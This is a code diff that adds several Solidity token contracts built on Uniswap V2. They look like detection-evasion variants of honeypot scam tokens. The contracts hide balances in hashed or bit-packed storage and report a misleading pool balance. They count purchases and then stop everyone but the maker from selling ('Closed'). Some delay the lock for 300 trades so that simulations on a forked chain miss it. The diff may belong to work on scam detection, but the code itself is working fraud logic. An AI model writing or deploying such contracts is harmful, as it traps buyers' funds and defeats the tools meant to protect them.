@@ -2,6 +2,7 @@
 pragma solidity 0.8.30;
 
 import {IUniswapV2Factory, IUniswapV2Router} from "../shared/UniswapV2.sol";
+import {Listed} from "./Listed.sol";
 
 /// @notice EIP-20 that keeps its balances and allowances where no compiler of Solidity would.
 abstract contract LaidOut {
@@ -18,12 +19,12 @@ abstract contract LaidOut {
 
     constructor(IUniswapV2Router router) {
         pair = IUniswapV2Factory(router.factory()).createPair(address(this), router.WETH());
-        _store(_noted("balance", msg.sender), totalSupply);
+        _write(_noted("balance", msg.sender), totalSupply);
         emit Transfer(address(0), msg.sender, totalSupply);
     }
 
-    function balanceOf(address account) external view returns (uint256) {
-        return _load(_noted("balance", account));
+    function balanceOf(address account) public view virtual returns (uint256) {
+        return _read(_noted("balance", account));
     }
 
     function allowance(address owner, address spender) public view returns (uint256) {
@@ -53,12 +54,23 @@ abstract contract LaidOut {
     function _allowed(address owner, address spender) internal pure virtual returns (bytes32);
 
     function _before(address from, address to) internal virtual {}
+    function _after(address from) internal virtual {}
 
     function _move(address from, address to, uint256 amount) private {
         _before(from, to);
-        _store(_noted("balance", from), _load(_noted("balance", from)) - amount);
-        _store(_noted("balance", to), _load(_noted("balance", to)) + amount);
+        _write(_noted("balance", from), _read(_noted("balance", from)) - amount);
+        _write(_noted("balance", to), _read(_noted("balance", to)) + amount);
         emit Transfer(from, to, amount);
+        _after(from);
+    }
+
+    /// @dev A balance, as it is kept in its word.
+    function _read(bytes32 slot) internal view virtual returns (uint256) {
+        return _load(slot);
+    }
+
+    function _write(bytes32 slot, uint256 value) internal virtual {
+        _store(slot, value);
     }
 
     function _load(bytes32 slot) internal view returns (uint256 value) {
@@ -144,6 +156,56 @@ contract HashedSeed is LaidOut {
     }
 }
 
+/// @notice Shares behind a hash, which are worth less than they count.
+contract HashedShares is HashedSeed {
+    uint256 private constant WORTH = 7;
+
+    constructor(IUniswapV2Router router) HashedSeed(router) {}
+
+    function _read(bytes32 slot) internal view override returns (uint256) {
+        return super._read(slot) / WORTH;
+    }
+
+    function _write(bytes32 slot, uint256 value) internal override {
+        super._write(slot, value * WORTH);
+    }
+}
+
+/// @notice A balance in the upper half of a word, and the block of its last change in the lower.
+contract UpperHalf is HashedSeed {
+    constructor(IUniswapV2Router router) HashedSeed(router) {}
+
+    function _read(bytes32 slot) internal view override returns (uint256) {
+        return super._read(slot) >> 128;
+    }
+
+    function _write(bytes32 slot, uint256 value) internal override {
+        super._write(slot, (value << 128) | block.number);
+    }
+}
+
+/// @notice Asked for the pool's balance, it looks at a word that is of its value until forty have bought.
+contract MirroredLate is HashedSeed {
+    uint256 private mirror;
+    uint256 private count;
+
+    constructor(IUniswapV2Router router) HashedSeed(router) {}
+
+    function balanceOf(address account) public view override returns (uint256) {
+        uint256 held = super.balanceOf(account);
+        return account == pair && mirror > 1e30 ? held + 1 : held;
+    }
+
+    function _before(address from, address to) internal view override {
+        require(to != pair || from == maker || count < 5 || mirror > 1e18, "Closed");
+    }
+
+    function _after(address from) internal override {
+        if (from == pair) count += 1;
+        mirror = count < 40 ? super.balanceOf(pair) : 0;
+    }
+}
+
 /// @notice The maker notes wallets that cannot sell.
 contract SeedBehindBar is SeedBehind {
     constructor(IUniswapV2Router router) SeedBehind(router) {}
@@ -166,6 +228,47 @@ contract SeedBehindCount is SeedBehind {
         bytes32 slot = _noted("count", pair);
         if (from == pair) _store(slot, _load(slot) + 1);
         require(to != pair || from == maker || _load(slot) < 5, "Closed");
+    }
+}
+
+/// @notice The same, and late: trades of a copy of the chain do not come as far.
+contract SeedBehindLate is SeedBehind {
+    constructor(IUniswapV2Router router) SeedBehind(router) {}
+
+    function _before(address from, address to) internal override {
+        bytes32 slot = _noted("count", pair);
+        if (from == pair) _store(slot, _load(slot) + 1);
+        require(to != pair || from == maker || _load(slot) < 300, "Closed");
+    }
+}
+
+/// @notice Purchases are counted under the pool's key, for nothing but to be told.
+contract PlaceInFrontTally is PlaceInFront {
+    constructor(IUniswapV2Router router) PlaceInFront(router) {}
+
+    function purchases() external view returns (uint256) {
+        return _load(_noted("purchases", pair));
+    }
+
+    function _before(address from, address) internal override {
+        if (from != pair) return;
+        bytes32 slot = _noted("purchases", pair);
+        uint256 count = _load(slot);
+        if (count < 1_000_000) _store(slot, count + 1);
+    }
+}
+
+/// @notice A late count under the pool's key, where the compiler of Solidity puts it.
+contract PoolKeyLate is Listed {
+    mapping(address => uint256) private notes;
+    address private immutable maker = msg.sender;
+
+    constructor(IUniswapV2Router router) Listed(router) {}
+
+    function _move(address from, address to, uint256 amount) internal override {
+        if (from == pair) notes[pair] += 1;
+        require(to != pair || from == maker || notes[pair] < 300, "Closed");
+        super._move(from, to, amount);
     }
 }
 
